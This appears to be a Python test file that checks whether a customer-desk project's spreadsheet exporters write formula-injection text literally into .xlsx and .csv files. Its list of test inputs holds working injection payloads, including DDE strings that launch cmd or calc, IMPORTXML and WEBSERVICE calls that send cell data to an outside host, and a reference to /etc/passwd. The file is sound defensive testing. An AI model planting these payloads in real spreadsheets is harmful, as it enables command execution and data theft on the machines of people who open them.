"""Formula injection: hostile text is written as literal text to .xlsx and .csv.

Checked three ways: the saved sheet XML holds no <f> (formula) element, calamine reads every
value back unchanged, and LibreOffice headless (when installed) shows every value literally
while the controls keep their meaning: a phone number typed as text stays text and the
number −12.50 stays a number.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
import python_calamine

from custdesk.sheets.csv_writer import write_csv
from custdesk.sheets.writer import (
    MONEY,
    NUMBER,
    Column,
    Sheet,
    is_formula_like,
    write_xlsx,
)

HOSTILE = [
    "=1+1", "@SUM(1)", "+1+1", "-1+1", '=HYPERLINK("http://x","y")', "=cmd|' /c calc'!A1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C notepad'!'B1'",
    "=IMPORTXML(CONCAT(\"http://x/?v=\", A1), \"//a\")", "=WEBSERVICE(\"http://x\")",
    "='file:///etc/passwd'#$passwd.A1", "=1/0", "=A1", "=SUM(A1:A9)", "=\"a\"&\"b\"",
    "=TRUE()", "==1", "=", "-", "+", "@", "#N/A", "#DIV/0!", "#REF!", "=1+1\n=2+2",
    "=msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "\t", "=x_x000D_y",
]
CONTROL_PHONE = "+44 20 7946 0958"
COLUMNS = [Column("value"), Column("phone"), Column("amount", MONEY), Column("plain", NUMBER)]


def _rows() -> list[list[object]]:
    return [[text, CONTROL_PHONE, Decimal("-12.50"), -12.5] for text in HOSTILE]


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    xlsx = write_xlsx(folder / "hostile.xlsx", [Sheet("Hostile", COLUMNS, _rows()),
                                                Sheet("Second", COLUMNS, _rows(), title="t")])
    return xlsx, write_csv(folder / "hostile.csv", COLUMNS, _rows())


def test_the_list_is_long_enough_and_really_hostile() -> None:
    assert len(HOSTILE) >= 30
    assert sum(is_formula_like(t) for t in HOSTILE) >= 30


def test_no_sheet_xml_holds_a_formula(exported: tuple[Path, Path]) -> None:
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(exported[0]) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        for name in sheets:
            root = ET.fromstring(archive.read(name))
            assert root.findall(f".//{ns}f") == [], name
            cells = root.findall(f".//{ns}c")
            # every hostile cell (column A below the header) is an inline string
            values = [c for c in cells if c.get("r", "").startswith("A") and c.get("r") not in
                      ("A1", "A2")]
            assert values and all(c.get("t") == "inlineStr" for c in values), name


def test_calamine_reads_every_value_back_unchanged(exported: tuple[Path, Path]) -> None:
    book = python_calamine.CalamineWorkbook.from_path(str(exported[0]))
    rows = book.get_sheet_by_name("Hostile").to_python()
    assert rows[0] == ["value", "phone", "amount", "plain"]
    # calamine reads a whitespace-only cell ("\t") as empty; LibreOffice shows the tab
    assert [r[0] for r in rows[1:]] == [t if t.strip() else "" for t in HOSTILE]
    assert all(r[1] == CONTROL_PHONE for r in rows[1:])  # text stays text
    assert all(r[2] == -12.5 and r[3] == -12.5 for r in rows[1:])  # numbers stay numbers


def test_csv_prefixes_formula_like_text_and_keeps_numbers(exported: tuple[Path, Path]) -> None:
    raw = exported[1].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel reads the accents right
    with exported[1].open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["value", "phone", "amount", "plain"]
    for text, row in zip(HOSTILE, rows[1:], strict=True):
        expected = "'" + text if text[0] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20" else text
        assert row == [expected, "'" + CONTROL_PHONE, "-12.50", "-12.5"]


def _soffice_csv(source: Path, out_dir: Path, infilter: bool = False) -> list[list[str]]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    options = "Text - txt - csv (StarCalc):44,34,76,1"  # comma, quote, UTF-8
    cmd = [soffice, f"-env:UserInstallation=file://{out_dir}/profile", "--headless",
           "--convert-to", f"csv:{options}", "--outdir", str(out_dir / "out"), str(source)]
    if infilter:
        cmd[3:3] = [f"--infilter={options}"]
    subprocess.run(cmd, check=True, capture_output=True, timeout=120)
    with (out_dir / "out" / f"{source.stem}.csv").open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.slow
def test_libreoffice_shows_xlsx_values_literally(exported: tuple[Path, Path],
                                                 tmp_path: Path) -> None:
    rows = _soffice_csv(exported[0], tmp_path)
    assert rows[0] == ["value", "phone", "amount", "plain"]
    assert [r[0] for r in rows[1:]] == HOSTILE  # shown as typed, nothing computed
    for row in rows[1:]:
        # the money cell is a number shown in the currency format; the plain one a number
        assert row[1:] == [CONTROL_PHONE, "-$12.50", "-12.5"]


@pytest.mark.slow
def test_libreoffice_reads_our_csv_as_text_and_numbers(exported: tuple[Path, Path],
                                                       tmp_path: Path) -> None:
    rows = _soffice_csv(exported[1], tmp_path, infilter=True)
    for text, row in zip(HOSTILE, rows[1:], strict=True):
        shown = text.replace("\r", "\n")  # a CSV line break inside quotes reads back as LF
        assert row[0] in (shown, "'" + shown)  # literal: never the result of a formula
        assert row[2:] == ["-12.5", "-12.5"]


def test_tab_table_export_uses_the_safe_cell(tmp_path: Path) -> None:
    """The tabs' "Export to Excel" (sheets/table_export.py) writes hostile text literally."""
    from custdesk.sheets.table_export import SheetTable
    from custdesk.sheets.table_export import write_xlsx as write_table

    table = SheetTable("Customers", ["name", "revenue"], ["text", "money"],
                       [[text, -12.5] for text in HOSTILE] + [["a\x01b", 1.0]])
    path = write_table(tmp_path / "tab.xlsx", [table])
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml and b't="e"' not in xml
    rows = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_name(
        "Customers").to_python()
    assert [r[0] for r in rows[1:]] == [t if t.strip() else "" for t in HOSTILE] + ["ab"]
    assert all(r[1] == -12.5 for r in rows[1:-1])
